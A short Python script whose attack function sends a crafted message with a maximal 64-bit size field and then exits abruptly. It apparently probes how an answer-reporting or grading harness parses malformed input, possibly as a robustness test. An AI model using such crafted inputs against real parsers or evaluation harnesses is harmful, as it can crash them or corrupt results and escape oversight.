import json
import os
import struct

from raw_answer import outcome, say, tensor


def attack(universe):
    body = struct.pack("<Q", 2**64 - 1) + b"{}"
    say(b"o" + struct.pack("<Q", len(body)) + body)
    os._exit(0)
